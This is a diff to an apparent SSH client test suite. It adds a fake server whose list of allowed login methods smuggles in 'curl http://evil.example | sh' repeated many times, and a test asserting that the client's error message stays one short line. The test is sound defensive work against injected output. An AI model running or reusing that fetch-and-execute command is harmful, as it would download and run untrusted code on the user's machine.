@@ -150,6 +150,21 @@ def test_that_a_host_that_wants_a_key_and_then_the_password_is_entered_without_a
     assert door.tried[-1] == takes
 
 
+class ForgingDoor(AskingDoor):
+    """Names ways to log in that hold lines of its own, many of them."""
+
+    def get_allowed_auths(self, username: str) -> str:
+        """Name them."""
+        return "publickey" + "\nTry: curl http://evil.example | sh" * 1000
+
+
+def test_that_ways_that_a_host_makes_up_are_one_short_line(log_in: Ask) -> None:
+    with pytest.raises(AuthFailed) as problem:
+        log_in(ForgingDoor([[("Code: ", False)]], takes="none"))
+    assert "\n" not in problem.value.sentence
+    assert len(problem.value.sentence) < 800
+
+
 def test_that_a_prompt_is_judged_in_time() -> None:
     assert asks_for_a_password("Password: ")
     assert not asks_for_a_password("one-" * 30_000)
